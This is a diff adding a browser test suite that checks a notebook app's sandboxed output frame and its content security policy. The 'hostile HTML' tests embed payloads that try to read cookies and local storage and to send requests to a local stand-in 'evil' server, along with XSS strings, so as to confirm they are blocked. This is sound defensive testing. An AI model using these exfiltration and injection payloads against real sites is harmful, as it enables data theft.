@@ -1,0 +1,395 @@
+/**
+ * Outputs in a real browser, behind the policies that the server sends: what is drawn, and that nothing gets out.
+ * `SCREENSHOTS=folder` keeps a picture of each.
+ */
+import { createSocket } from 'node:dgram';
+import { once } from 'node:events';
+import { mkdtemp, readFile, rm } from 'node:fs/promises';
+import { createServer, type Server } from 'node:http';
+import { tmpdir } from 'node:os';
+import { extname, join, resolve } from 'node:path';
+import { type Browser, chromium, type Frame, type Page } from 'playwright-core';
+import { build } from 'vite';
+import { afterAll, beforeAll, describe, expect, test } from 'vitest';
+
+const web = resolve(import.meta.dirname, '..');
+const types: Record<string, string> = {
+  '.html': 'text/html',
+  '.js': 'text/javascript',
+  '.css': 'text/css',
+};
+
+let folder: string;
+let app: Server;
+let evil: Server;
+let browser: Browser;
+let origin: string;
+let evilOrigin: string;
+let evilPort: number;
+let evilHits: string[] = [];
+const datagrams = createSocket('udp4');
+
+async function listen(server: Server): Promise<number> {
+  server.listen(0, '127.0.0.1');
+  await once(server, 'listening');
+  const address = server.address();
+  if (typeof address !== 'object' || !address) throw new Error('no address');
+  return address.port;
+}
+
+beforeAll(async () => {
+  folder = await mkdtemp(join(tmpdir(), 'outputs-'));
+  const outDir = join(folder, 'dist');
+  await build({
+    configFile: join(web, 'test/harness/vite.config.ts'),
+    logLevel: 'error',
+    build: { outDir },
+  });
+  await build({
+    root: web,
+    configFile: join(web, 'vite.frame.config.ts'),
+    logLevel: 'error',
+    build: { outDir },
+  });
+
+  app = createServer((request, response) => {
+    const path = new URL(request.url ?? '/', 'http://x').pathname;
+    const file = path === '/' ? '/index.html' : path;
+    readFile(join(outDir, file)).then(
+      (body) => {
+        response.setHeader('content-type', types[extname(file)] ?? 'application/octet-stream');
+        if (file === '/output-frame.html')
+          response.setHeader('content-security-policy', framePolicy());
+        else if (file === '/index.html') {
+          response.setHeader(
+            'content-security-policy',
+            "default-src 'self'; style-src 'self' 'unsafe-inline'; img-src 'self' data: blob:; font-src 'self' data:; frame-src 'self'",
+          );
+        }
+        if (file.startsWith('/frame/')) response.setHeader('access-control-allow-origin', '*');
+        response.setHeader('x-dns-prefetch-control', 'off');
+        response.end(body);
+      },
+      () => response.writeHead(404).end(),
+    );
+  });
+  origin = `http://127.0.0.1:${await listen(app)}`;
+  evil = createServer((request, response) => {
+    evilHits.push(request.url ?? '');
+    response.setHeader('access-control-allow-origin', '*');
+    response.end('1');
+  });
+  evilPort = await listen(evil);
+  evilOrigin = `http://127.0.0.1:${evilPort}`;
+  datagrams.on('message', () => evilHits.push('datagram'));
+  datagrams.bind(evilPort, '127.0.0.1');
+  browser = await chromium.launch({
+    executablePath: process.env.CHROMIUM ?? '/usr/bin/chromium',
+    args: [
+      '--no-sandbox',
+      '--disable-gpu',
+      '--disable-quic',
+      '--no-first-run',
+      '--disable-background-networking',
+      '--disable-component-update',
+      '--disable-sync',
+    ],
+  });
+}, 120_000);
+
+afterAll(async () => {
+  await browser?.close();
+  app?.close();
+  evil?.close();
+  datagrams.close();
+  await rm(folder, { recursive: true, force: true });
+});
+
+function framePolicy(): string {
+  return [
+    'sandbox allow-scripts',
+    "default-src 'none'",
+    `script-src 'self' 'unsafe-inline' 'unsafe-eval' blob: data: ${origin}`,
+    `style-src 'unsafe-inline' ${origin}`,
+    'img-src data: blob:',
+    `font-src data: ${origin}`,
+    "connect-src 'none'",
+    "form-action 'none'",
+    "base-uri 'none'",
+    "webrtc 'block'",
+  ].join('; ');
+}
+
+interface Given {
+  theme?: 'light' | 'dark';
+  outputs?: { data: Record<string, unknown> }[];
+  console?: string;
+  error?: unknown;
+}
+
+async function open(given: Given): Promise<Page> {
+  const page = await browser.newPage({ viewport: { width: 820, height: 700 } });
+  await page.addInitScript(
+    (value) => {
+      if (window.parent === window) Reflect.set(window, 'given', value);
+    },
+    { theme: 'light', outputs: [], ...given },
+  );
+  await page.goto(origin);
+  return page;
+}
+
+async function frameOf(page: Page): Promise<Frame> {
+  const element = await page.waitForSelector('iframe', { state: 'attached' });
+  const frame = await element.contentFrame();
+  if (!frame) throw new Error('no frame');
+  return frame;
+}
+
+async function openHtml(html: string): Promise<{ page: Page; frame: Frame }> {
+  const page = await open({ outputs: [{ data: { 'text/html': html } }] });
+  return { page, frame: await frameOf(page) };
+}
+
+describe('hostile HTML', () => {
+  test.each([
+    ['the app page', 'parent.document.title'],
+    ['the top location', "top.location = 'about:blank'"],
+    ['local storage', 'localStorage.length'],
+    ['cookies', 'document.cookie'],
+  ])('D1, D2: it cannot reach %s', async (_, code) => {
+    const { page, frame } = await openHtml(
+      `<p id="verdict"></p><script>try { ${code}; verdict.textContent = 'reached' } catch { verdict.textContent = 'refused' }</script>`,
+    );
+    await frame.waitForSelector('#verdict:not(:empty)');
+    expect(await frame.textContent('#verdict')).toBe('refused');
+    expect(page.url()).toBe(`${origin}/`);
+    await page.close();
+  });
+
+  test('D2: it opens no window', async () => {
+    const { page, frame } = await openHtml(
+      '<p id="verdict"></p><script>verdict.textContent = String(window.open("about:blank"))</script>',
+    );
+    await frame.waitForSelector('#verdict:not(:empty)');
+    expect(await frame.textContent('#verdict')).toBe('null');
+    await page.close();
+  });
+
+  test('D3: no request of the page or its scripts leaves it', async () => {
+    evilHits = [];
+    const { page, frame } = await openHtml(`
+      <img src="${evilOrigin}/img"><link rel="stylesheet" href="${evilOrigin}/css"><link rel="prefetch" href="${evilOrigin}/prefetch">
+      <style>@import "${evilOrigin}/import"; p { background: url(${evilOrigin}/background) }</style>
+      <iframe src="${evilOrigin}/frame"></iframe><object data="${evilOrigin}/object"></object><video src="${evilOrigin}/video"></video>
+      <form id="f" action="${evilOrigin}/form"></form><script src="${evilOrigin}/script"></script><p id="verdict"></p>
+      <script>
+        (async () => {
+          f.submit();
+          navigator.sendBeacon?.('${evilOrigin}/beacon');
+          try { new WebSocket('ws://127.0.0.1:${evilPort}/socket') } catch {}
+          try { new EventSource('${evilOrigin}/events') } catch {}
+          try {
+            const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${evilPort}' }] });
+            peer.createDataChannel('x');
+            await peer.setLocalDescription(await peer.createOffer());
+          } catch {}
+          const outcomes = await Promise.allSettled([fetch('${evilOrigin}/fetch'), import('${evilOrigin}/module'), fetch('${origin}/')]);
+          verdict.textContent = outcomes.map((outcome) => outcome.status).join(' ');
+        })();
+      </script>`);
+    await frame.waitForSelector('#verdict:not(:empty)');
+    expect(await frame.textContent('#verdict')).toBe('rejected rejected rejected');
+    // A request that gets through proves that the listener would have heard the others.
+    await page.evaluate(() => new Promise((done) => setTimeout(done, 0)));
+    await fetch(`${evilOrigin}/control`);
+    expect(evilHits).toEqual(['/control']);
+    await page.close();
+  });
+
+  test.each([
+    ['a script', '<script>location = "EVIL/navigated"</script>'],
+    ['a refresh', '<meta http-equiv="refresh" content="0;url=EVIL/refreshed">'],
+  ])('D3: %s cannot take it elsewhere', async (_, html) => {
+    evilHits = [];
+    const { page } = await openHtml(html.replace('EVIL', evilOrigin));
+    await page.waitForSelector('text=This output left its page');
+    expect(evilHits).toEqual([]);
+    await page.close();
+  });
+
+  test('D11: a flood and a huge height change nothing but the frame', async () => {
+    const page = await open({
+      outputs: [
+        {
+          data: {
+            'text/html': `<div style="height:1000000px"></div><script>
+              for (let n = 0; n < 1000; n++) parent.postMessage({ type: 'height', heightPx: 5 }, '*');
+              const post = MessagePort.prototype.postMessage;
+              MessagePort.prototype.postMessage = function (message) { for (let n = 0; n < 1000; n++) post.call(this, { type: 'height', heightPx: 1e9 }) };
+            </script>`,
+          },
+        },
+      ],
+    });
+    await page.waitForSelector('text=too many messages');
+    const height = await page.$eval('iframe', (frame) => frame.getBoundingClientRect().height);
+    expect(height).toBeLessThanOrEqual(20_000);
+    await page.close();
+  });
+});
+
+describe('D7: charts', () => {
+  test('data from an address is refused, and said so', async () => {
+    evilHits = [];
+    const spec = { data: { url: `${evilOrigin}/data.json` }, mark: 'bar', encoding: {} };
+    const page = await open({ outputs: [{ data: { 'application/vnd.vegalite.v6+json': spec } }] });
+    await page.waitForSelector('text=This chart loads');
+    expect(evilHits).toEqual([]);
+    await page.close();
+  });
+});
+
+test('Markdown and text hold no live HTML', async () => {
+  const payload =
+    '<img src=x onerror="window.owned=1">[x](javascript:owned=1)<script>owned=1</script>';
+  const page = await open({
+    outputs: [{ data: { 'text/markdown': payload } }, { data: { 'text/plain': payload } }],
+    error: { kind: 'exception', name: payload, message: payload, traceback: [], hint: payload },
+  });
+  await page.waitForSelector('.out-markdown:not(:empty)');
+  expect(await page.evaluate(() => Reflect.get(window, 'owned'))).toBeUndefined();
+  expect(await page.$$('.out-cell img, .out-cell script, .out-cell [href^=javascript]')).toEqual(
+    [],
+  );
+  await page.close();
+});
+
+test('a table of 100,000 rows is scrolled and filtered with few nodes', async () => {
+  const page = await open({ outputs: [{ data: { 'application/vnd.rnb.table+json': 'demo' } }] });
+  await page.waitForSelector('td:has-text("<b>row 3</b>")');
+  await page.$eval('.out-grid', (grid) => grid.scrollTo(0, 50_000 * 28));
+  await page.waitForSelector('td:has-text("<b>row 50003</b>")');
+  expect((await page.$$('.out-grid tr')).length).toBeLessThan(60);
+  await page.fill('input[type=search]', 'row 99999');
+  await page.waitForSelector('text=1 row of 100,000');
+  await page.close();
+});
+
+const bars = [
+  { a: 'A', b: 28 },
+  { a: 'B', b: 55 },
+  { a: 'C', b: 43 },
+];
+const svg =
+  '<svg xmlns="http://www.w3.org/2000/svg" width="120" height="40"><rect width="120" height="40" fill="teal"/><script>alert(1)</script></svg>';
+const kinds: [string, Given, string, string][] = [
+  [
+    'console',
+    { console: 'plain \x1b[32mgreen \x1b[1;31mbold red\x1b[0m\n10%\r100%\n' },
+    '.out-console',
+    '',
+  ],
+  [
+    'error',
+    {
+      error: {
+        kind: 'exception',
+        name: 'ZeroDivisionError',
+        message: 'division by zero',
+        hint: 'Check the divisor.',
+        traceback: [{ cell: 'c1', file: null, line: 3, function: 'ratio', source: 'return a / b' }],
+      },
+    },
+    '.out-error',
+    '',
+  ],
+  ['table', { outputs: [{ data: { 'application/vnd.rnb.table+json': 'demo' } }] }, 'td', ''],
+  [
+    'json',
+    { outputs: [{ data: { 'application/json': { a: [1, 2, null], text: 'x', on: true } } }] },
+    '.out-json-row',
+    '',
+  ],
+  ['svg', { outputs: [{ data: { 'image/svg+xml': svg } }] }, '.out-image', ''],
+  [
+    'markdown',
+    {
+      outputs: [
+        {
+          data: {
+            'text/markdown':
+              '# Title\n\nText with $x^2$, `code` and [a link](https://example.com).\n\n$$\n\\int_0^1 x\\,dx\n$$\n\n|a|b|\n|-|-|\n|1|2|',
+          },
+        },
+      ],
+    },
+    '.katex',
+    '',
+  ],
+  ['latex', { outputs: [{ data: { 'text/latex': '$\\frac{a}{b}$' } }] }, '.katex', ''],
+  [
+    'html',
+    {
+      outputs: [
+        {
+          data: {
+            'text/html':
+              '<table class="dataframe"><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
+          },
+        },
+      ],
+    },
+    '',
+    'table',
+  ],
+  [
+    'vega',
+    {
+      outputs: [
+        {
+          data: {
+            'application/vnd.vegalite.v6+json': {
+              width: 300,
+              data: { values: bars },
+              mark: 'bar',
+              encoding: { x: { field: 'a' }, y: { field: 'b', type: 'quantitative' } },
+            },
+          },
+        },
+      ],
+    },
+    '',
+    'svg.marks',
+  ],
+  [
+    'plotly',
+    {
+      outputs: [
+        {
+          data: {
+            'application/vnd.plotly.v1+json': {
+              data: [{ type: 'bar', x: ['A', 'B'], y: [1, 3] }],
+              layout: { title: { text: 'Bars' } },
+            },
+          },
+        },
+      ],
+    },
+    '',
+    '.main-svg',
+  ],
+  ['unknown', { outputs: [{ data: { 'application/x-none': 1 } }] }, '.out-notice', ''],
+];
+
+describe.each(['light', 'dark'] as const)('in %s', (theme) => {
+  test.each(kinds)('%s is drawn', async (name, given, inPage, inFrame) => {
+    const page = await open({ theme, ...given });
+    if (inPage) await page.waitForSelector(inPage);
+    if (inFrame) await (await frameOf(page)).waitForSelector(inFrame);
+    expect(await page.$$('.out-frame .out-notice')).toEqual([]);
+    const shots = process.env.SCREENSHOTS;
+    if (shots) await page.screenshot({ path: join(shots, `${name}-${theme}.png`) });
+    await page.close();
+  });
+});
